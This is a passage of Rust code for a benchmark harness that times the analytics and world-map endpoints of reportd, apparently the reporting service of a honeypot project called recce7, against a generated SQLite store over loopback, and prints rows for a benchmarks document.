        };
        format!(
            "| {what}, body {} | {} | {goal} |",
            self.body(),
            self.summary()
        )
    }
}

/// Sends `warmup` then every one of `paths`, in order, each after the previous answer, and
/// times each; every answer must be a 200 whose body looks like `expect`.
async fn measure(
    client: &mut Client,
    warmup: &[String],
    paths: &[String],
    expect: Expect,
) -> Timings {
    let mut t = Timings::new();
    for (i, path) in warmup.iter().chain(paths).enumerate() {
        let started = Instant::now();
        let (status, body) = client.get(path).await;
        let elapsed = started.elapsed();
        assert_eq!(
            status,
            200,
            "{path}: {}",
            String::from_utf8_lossy(&body[..body.len().min(300)])
        );
        assert!(
            !body.is_empty() && expect.matches(&body),
            "{path}: unexpected body {:?}",
            String::from_utf8_lossy(&body[..body.len().min(100)])
        );
        if i >= warmup.len() {
            t.ms.push(elapsed.as_secs_f64() * 1000.0);
            t.bytes.push(body.len());
        }
    }
    t
}

/// `n` copies of one path.
fn repeat(path: &str, n: usize) -> Vec<String> {
    vec![path.to_owned(); n]
}

/// `12,345` from 12345.
fn thousands(n: u64) -> String {
    let digits = n.to_string();
    let mut out = String::new();
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// A byte count as KB or MB (powers of 1,000).
fn size(bytes: u64) -> String {
    match bytes {
        b if b >= 1_000_000 => format!("{:.1} MB", b as f64 / 1e6),
        b if b >= 1_000 => format!("{:.1} KB", b as f64 / 1e3),
        b => format!("{b} B"),
    }
}

/// A read-only connection set up as reportd sets up its own.
fn read_only(path: &Path) -> Connection {
    let conn = Connection::open_with_flags(
        path,
        OpenFlags::SQLITE_OPEN_READ_ONLY | OpenFlags::SQLITE_OPEN_NO_MUTEX,
    )
    .expect("open the store read-only");
    conn.execute_batch("PRAGMA query_only = ON; PRAGMA cache_size = -4096;")
        .expect("pragmas");
    conn
}

/// What the store holds: sessions, instance rows, events, distinct addresses, ipInfo rows,
/// sessions in the window.
struct Contents {
    sessions: u64,
    rows: u64,
    addresses: u64,
    ip_info: u64,
    in_window: u64,
    newest: String,
}

fn contents(conn: &Connection, since: &str) -> Contents {
    let one = |sql: &str| -> u64 {
        conn.query_row(sql, [], |r| r.get::<_, i64>(0))
            .expect("a count") as u64
    };
    let rows = (0..INSTANCES.len())
        .map(|i| one(&format!("SELECT count(*) FROM \"{}\"", table_name(i))))
        .sum();
    Contents {
        sessions: one("SELECT count(*) FROM sessions"),
        rows,
        addresses: one("SELECT count(DISTINCT peerAddress) FROM sessions"),
        ip_info: one("SELECT count(*) FROM ipInfo"),
        in_window: conn
            .query_row(
                "SELECT count(*) FROM sessions WHERE startTime >= ?1",
                [since],
                |r| r.get::<_, i64>(0),
            )
            .expect("a count") as u64,
        newest: conn
            .query_row("SELECT max(startTime) FROM sessions", [], |r| r.get(0))
            .expect("the newest session"),
    }
}

/// The addresses asked about: the 50 with most sessions in the window (with their counts),
/// and 160 drawn at random from all 50,000 (most have a session or two, many none in the
/// window).
fn pick_addresses(conn: &Connection, since: &str) -> (Vec<(String, i64)>, Vec<String>) {
    let heavy = conn
        .prepare(
            "SELECT peerAddress, count(*) FROM sessions WHERE startTime >= ?1
             GROUP BY peerAddress ORDER BY 2 DESC LIMIT 50",
        )
        .expect("prepare")
        .query_map([since], |r| Ok((r.get(0)?, r.get(1)?)))
        .expect("query")
        .collect::<Result<Vec<_>, _>>()
        .expect("the busiest addresses");
    let mut all = conn
        .prepare("SELECT ipAddress FROM ipInfo ORDER BY ipAddress")
        .expect("prepare")
        .query_map([], |r| r.get(0))
        .expect("query")
        .collect::<Result<Vec<String>, _>>()
        .expect("the addresses");
    Rng(7).shuffle(&mut all);
    all.truncate(160);
    (heavy, all)
}

/// The map handler's two parts, in-process on one connection like reportd's: the query
/// ([`query::places`]) and the drawing (SVG and PNG, 1,024 px wide), `runs` times each.
fn map_parts(path: &Path, since: &str, runs: usize) -> (Timings, Timings, Timings, usize) {
    let conn = read_only(path);
    let filter = Filter {
        since: since.to_owned(),
        sensor: None,
    };
    let mut q = Timings::new();
    let mut places = Vec::new();
    for i in 0..=runs {
        let started = Instant::now();
        let (p, unique, total) = query::places(&conn, &filter).expect("the map query");
        if i > 0 {
            q.ms.push(started.elapsed().as_secs_f64() * 1000.0);
            q.bytes.push(p.len());
        }
        places = p;
        std::hint::black_box((unique, total));
    }
    let points: Vec<MapPoint> = places
        .iter()
        .map(|p| MapPoint {
            latitude: p.latitude,
            longitude: p.longitude,
            count: p.count,
        })
        .collect();
    let title =
        "recce7: attacks in the last 7 days (days=7): 9,999 unique addresses, 99,999 sessions";
    let map = WorldMap::embedded();
    let (mut svg, mut png) = (Timings::new(), Timings::new());
    for i in 0..=runs {
        let started = Instant::now();
        let s = map.svg(&points, title, 1024);
        if i > 0 {
            svg.ms.push(started.elapsed().as_secs_f64() * 1000.0);
            svg.bytes.push(s.len());
        }
        let started = Instant::now();
        let p = map.png(&points, title, 1024).expect("a PNG");
        if i > 0 {
            png.ms.push(started.elapsed().as_secs_f64() * 1000.0);
            png.bytes.push(p.len());
        }
    }
    (q, svg, png, places.len())
}

/// Every measurement, over loopback.
struct Results {
    ports: Timings,
    address_heavy: Timings,
    address_light: Timings,
    address_all: Timings,
    svg: Timings,
    png: Timings,
    top_addresses: Timings,
    credentials: Timings,
    summary: Timings,
}

async fn requests(addr: SocketAddr, heavy: &[(String, i64)], light: &[String]) -> Results {
    let mut c = Client::connect(addr).await;
    let n = 200;
    let ports_path = format!("/v1/analytics/ports?{WINDOW}");
    let ports = measure(
        &mut c,
        &repeat(&ports_path, 10),
        &repeat(&ports_path, n),
        Expect::Json,
    )
    .await;

    // One request in four for a busy address, in the order they are sent.
    let detail = |ip: &str| format!("/v1/analytics/ipaddresses/{ip}?{WINDOW}");
    let warm: Vec<String> = light[150..].iter().map(|ip| detail(ip)).collect();
    let mut heavy_paths = heavy.iter().map(|(ip, _)| detail(ip));
    let mut light_paths = light[..150].iter().map(|ip| detail(ip));
    let order: Vec<(bool, String)> = (0..n)
        .map(|i| {
            if i % 4 == 0 {
                (true, heavy_paths.next().expect("50 busy addresses"))
            } else {
                (false, light_paths.next().expect("150 other addresses"))
            }
        })
        .collect();
    let paths: Vec<String> = order.iter().map(|(_, p)| p.clone()).collect();
    let all = measure(&mut c, &warm, &paths, Expect::Json).await;
    let (mut address_heavy, mut address_light) = (Timings::new(), Timings::new());
    for (i, (busy, _)) in order.iter().enumerate() {
        let t = if *busy {
            &mut address_heavy
        } else {
            &mut address_light
        };
        t.ms.push(all.ms[i]);
        t.bytes.push(all.bytes[i]);
    }

    let n = 50;
    let svg_path = format!("/v1/worldmap?{WINDOW}");
    let svg = measure(
        &mut c,
        &repeat(&svg_path, 10),
        &repeat(&svg_path, n),
        Expect::Svg,
    )
    .await;
    let png_path = format!("/v1/worldmap?{WINDOW}&format=png");
    let png = measure(
        &mut c,
        &repeat(&png_path, 10),
        &repeat(&png_path, n),
        Expect::Png,
    )
    .await;
    let mut json = async |path: String| {
        measure(&mut c, &repeat(&path, 10), &repeat(&path, n), Expect::Json).await
    };
    let top_addresses = json(format!("/v1/analytics/ipaddresses?{WINDOW}")).await;
    let credentials = json(format!("/v1/analytics/credentials?{WINDOW}")).await;
    let summary = json(format!("/v1/analytics/summary?{WINDOW}")).await;
    Results {
        ports,
        address_heavy,
        address_light,
        address_all: all,
        svg,
        png,
        top_addresses,
        credentials,
        summary,
    }
}

/// Generates (or reuses) the store, serves it and prints rows for docs/BENCHMARKS.md.
pub fn run() {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("runtime");
    let temp = tempfile::tempdir().expect("temporary directory");
    let path: PathBuf = std::env::var_os("RECCE7_BENCH_DB")
        .map(PathBuf::from)
        .unwrap_or_else(|| temp.path().join("central.sqlite"));
    let generated = if path.exists() {
        println!("reusing the store {}", path.display());
        None
    } else {
        let g = generate(&path);
        assert_eq!(g.sessions * 2 + g.rows, EVENTS, "events generated");
        Some(g)
    };
    let file_size = std::fs::metadata(&path).expect("the store").len();
    let since = store::event::format_rfc3339(OffsetDateTime::now_utc() - time::Duration::days(7));
    let (c, heavy, light) = {
        let conn = read_only(&path);
        let c = contents(&conn, &since);
        let (heavy, light) = pick_addresses(&conn, &since);
        (c, heavy, light)
    };
    let events = c.sessions * 2 + c.rows;
    assert_eq!(c.sessions as usize, SESSIONS, "sessions in the store");
    assert_eq!(events as usize, EVENTS, "events in the store");

    let listener = rt
        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
        .expect("bind 127.0.0.1:0");
    let addr = listener.local_addr().expect("the bound address");
    let settings = ReportdSettings::local(path.clone(), addr);
    let stop = CancellationToken::new();
    let server = rt.spawn(::reportd::api::serve_on(
        listener,
        settings,
        None,
        stop.clone(),
    ));
    let r = rt.block_on(requests(addr, &heavy, &light));
    stop.cancel();
    rt.block_on(server)
        .expect("the server task")
        .expect("reportd served and stopped");
    let (map_query, map_svg, map_png, places) = map_parts(&path, &since, 20);

    println!(
        "store: {} events = {} sessions × 2 (start, end) + {} instance rows, 20 ports (10 telnet, 10 HTTP, one table each), {} addresses ({} ipInfo rows); newest session {}",
        thousands(events),
        thousands(c.sessions),
        thousands(c.rows),
        thousands(c.addresses),
        thousands(c.ip_info),
        c.newest
    );
    println!(
        "window days=7: {} sessions ({:.1}%); the 50 busiest addresses have {} to {} sessions in it",
        thousands(c.in_window),
        100.0 * c.in_window as f64 / c.sessions as f64,
        thousands(heavy.last().map_or(0, |h| h.1) as u64),
        thousands(heavy.first().map_or(0, |h| h.1) as u64)
    );
    println!("p99 is by nearest rank: with n = 50 it is the maximum.");
    println!();
    println!("| what | result | goal |");
    println!("|---|---|---|");
    match &generated {
        Some(g) => println!(
            "| generate the store (store::open, then {} transactions) | {:.1} s ({} events/s), file {} | |",
            SESSIONS.div_ceil(SESSIONS_PER_TX) + 1,
            g.seconds,
            thousands((EVENTS as f64 / g.seconds) as u64),
            size(file_size)
        ),
        None => println!(
            "| the store (reused, RECCE7_BENCH_DB) | file {} | |",
            size(file_size)
        ),
    }
    println!(
        "{}",
        r.ports
            .row(&format!("`/v1/analytics/ports?{WINDOW}`"), Some(50.0))
    );
    println!(
        "{}",
        r.address_all.row(
            &format!(
                "`/v1/analytics/ipaddresses/{{ip}}?{WINDOW}`, 50 busiest + 150 random addresses"
            ),
            Some(50.0)
        )
    );
    println!(
        "{}",
        r.address_heavy
            .row("… of which the 50 busiest addresses", Some(50.0))
    );
    println!(
        "{}",
        r.address_light
            .row("… of which the 150 random addresses", Some(50.0))
    );
    println!(
        "{}",
        r.svg
            .row(&format!("`/v1/worldmap?{WINDOW}` (SVG)"), Some(200.0))
    );
    println!(
        "{}",
        r.png
            .row(&format!("`/v1/worldmap?{WINDOW}&format=png`"), Some(200.0))
    );
    println!(
        "| map parts, in-process: `query::places` ({} places) | {} | |",
        thousands(places as u64),
        map_query.summary()
    );
    println!(
        "| map parts, in-process: drawing the SVG; the PNG (1,024 px wide) | SVG {}; PNG {} | |",
        map_svg.summary(),
        map_png.summary()
    );
    println!(
        "{}",
        r.top_addresses.row(
            &format!("`/v1/analytics/ipaddresses?{WINDOW}` (top 100)"),
            None
        )
    );
    println!(
        "{}",
        r.credentials
            .row(&format!("`/v1/analytics/credentials?{WINDOW}`"), None)
    );
    println!(
        "{}",
        r.summary
            .row(&format!("`/v1/analytics/summary?{WINDOW}`"), None)
    );
}
